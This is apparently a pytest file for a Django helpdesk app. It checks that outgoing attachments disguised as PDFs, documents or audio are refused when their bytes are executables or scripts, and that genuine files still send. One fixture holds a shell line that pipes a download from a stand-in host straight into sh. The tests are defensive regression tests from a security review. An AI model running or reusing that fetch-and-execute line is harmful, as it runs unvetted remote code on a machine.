"""An agent's attachment is what it claims (iaze.lib.filetypes, tickets.media.outbound.outbound_check).

Security review: a program renamed `.pdf` (sent as `application/pdf`) reached the client. Now executable
bytes and executable names are refused whatever they claim, and a type whose bytes we recognise must
have them; every refusal is a 400 with the reason, nothing stored, nothing sent."""

import hashlib
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from iaze.lib import filetypes
from tests import factories as f
from tests.whatsapp.media_helpers import OGG, jpeg_bytes
from tickets import outbox
from tickets.models import MediaFile, Message

pytestmark = pytest.mark.django_db

FILLER = bytes(range(256)) * 2  # deterministic: the bytes appear in the test ids
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + b"0" * 500 + b"\n%%EOF\n"
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00" + FILLER
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + FILLER
SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
NOT_ANYTHING = b"just some words, not the file it claims to be\n" * 20
OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + FILLER
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + FILLER
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + FILLER
AMR = b"#!AMR\n" + FILLER
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def _reply(client, ticket, *, name, content, mime, nonce="n1"):
    upload = SimpleUploadedFile(name, content, content_type=mime)
    return client.post(f"/tickets/{ticket.pk}/responder/", {"text": "", "nonce": nonce, "file": upload})


def _refused(response, fake, reason):
    assert response.status_code == 400, response.status_code
    assert reason in response.content.decode()
    assert not Message.objects.filter(direction="out").exists() and MediaFile.objects.count() == 0
    assert fake.calls == []


PROGRAM = "é um programa (executável ou script)"
MISMATCH = "não corresponde ao tipo"


@pytest.mark.parametrize(
    "name, content, mime",
    [
        ("boleto.pdf", WINDOWS_EXE, "application/pdf"),  # the review's case: a .exe renamed .pdf
        ("boleto.pdf", ELF, "application/pdf"),
        ("leia.txt", SCRIPT, "text/plain"),
        ("planilha.docx", WINDOWS_EXE, DOCX_TYPE),
        ("audio.ogg", ELF, "audio/ogg"),
    ],
)
def test_executable_bytes_are_refused_whatever_they_claim(client, fake, meta_live, agent1, name, content, mime):
    ticket = f.make_ticket(meta_live, agent=agent1)
    client.force_login(agent1)
    _refused(_reply(client, ticket, name=name, content=content, mime=mime), fake, PROGRAM)


def test_executable_bytes_claimed_as_an_image_are_refused_on_evolution(client, fake, evo_live, agent1):
    # Evolution takes any document, and an image Pillow cannot read is sent as one: not a program.
    ticket = f.make_ticket(evo_live, agent=agent1)
    client.force_login(agent1)
    _refused(_reply(client, ticket, name="foto.jpg", content=WINDOWS_EXE, mime="image/jpeg"), fake, PROGRAM)


@pytest.mark.parametrize("extension", sorted(filetypes.EXECUTABLE_EXTENSIONS))
def test_an_executable_name_is_refused_even_with_real_pdf_bytes(client, fake, meta_live, agent1, extension):
    ticket = f.make_ticket(meta_live, agent=agent1)
    client.force_login(agent1)
    response = _reply(client, ticket, name=f"boleto{extension.upper()}", content=PDF, mime="application/pdf")
    _refused(response, fake, f"Arquivos {extension} não podem ser enviados")


@pytest.mark.parametrize(
    "name, mime",
    [
        ("boleto.pdf", "application/pdf"),
        ("contrato.docx", DOCX_TYPE),
        ("contrato.doc", "application/msword"),
        ("planilha.xls", "application/vnd.ms-excel"),
        ("audio.ogg", "audio/ogg"),
        ("audio.mp3", "audio/mpeg"),
        ("audio.amr", "audio/amr"),
        ("video.mp4", "video/mp4"),
    ],
)
def test_a_recognised_type_must_have_its_bytes(client, fake, meta_live, agent1, name, mime):
    ticket = f.make_ticket(meta_live, agent=agent1)
    client.force_login(agent1)
    _refused(_reply(client, ticket, name=name, content=NOT_ANYTHING, mime=mime), fake, f"{MISMATCH} {mime}")


@pytest.mark.parametrize(
    "name, content, mime, kind",
    [
        ("boleto.pdf", PDF, "application/pdf", "document"),
        ("contrato.docx", None, DOCX_TYPE, "document"),
        ("contrato.doc", OLE2_DOC, "application/msword", "document"),
        ("foto.jpg", None, "image/jpeg", "image"),
        ("audio.ogg", OGG, "audio/ogg", "audio"),
        ("audio.mp3", MP3, "audio/mpeg", "audio"),
        ("audio.amr", AMR, "audio/amr", "audio"),  # starts "#!", yet is no script
        ("video.mp4", MP4, "video/mp4", "video"),
        ("notas.txt", b"#1 primeira nota\nsegunda\n", "text/plain", "document"),
    ],
)
def test_genuine_files_still_go(client, fake, meta_live, agent1, name, content, mime, kind):
    content = content or (docx_bytes() if name.endswith(".docx") else jpeg_bytes())
    ticket = f.make_ticket(meta_live, agent=agent1)
    client.force_login(agent1)
    response = _reply(client, ticket, name=name, content=content, mime=mime)
    assert response.status_code == 303, response.content.decode()[:500]
    message = Message.objects.get(direction="out")
    assert message.kind == kind and message.media_file.mime_type == mime
    assert outbox.send_pending()["sent"] == 1
    (sent,) = fake.sent_media()
    assert sent["type"] == kind and sent["sha256"] == hashlib.sha256(content).hexdigest()


def test_a_csv_that_windows_calls_an_excel_sheet_goes_as_csv(client, fake, meta_live, agent1):
    ticket = f.make_ticket(meta_live, agent=agent1)
    client.force_login(agent1)
    csv = "nome;valor\nJoão;10,50\n".encode()
    response = _reply(client, ticket, name="valores.csv", content=csv, mime="application/vnd.ms-excel")
    assert response.status_code == 303
    assert Message.objects.get(direction="out").media_file.mime_type == "text/csv"


def test_the_checks_themselves():
    assert filetypes.executable_extension("nota.EXE. ") == ".exe"
    assert filetypes.executable_extension("nota.exe.pdf") == ""
    assert filetypes.executable_extension("instalar.sh") == ".sh"
    assert filetypes.executable_kind(b"#!AMR\n") == ""
    assert filetypes.executable_kind(b"#! /usr/bin/env python") == "script"
    assert filetypes.content_agrees("application/pdf; charset=binary", PDF)
    assert not filetypes.content_agrees("application/pdf", b"PK\x03\x04")
    assert filetypes.content_agrees("application/vnd.oasis.opendocument.text", b"PK\x03\x04")
    assert filetypes.content_agrees("text/plain", NOT_ANYTHING) and not filetypes.recognised("text/plain")
    assert filetypes.content_agrees("audio/mpeg", b"\xff\xfb\x90\x64")
    assert not filetypes.content_agrees("audio/mpeg", b"ID")
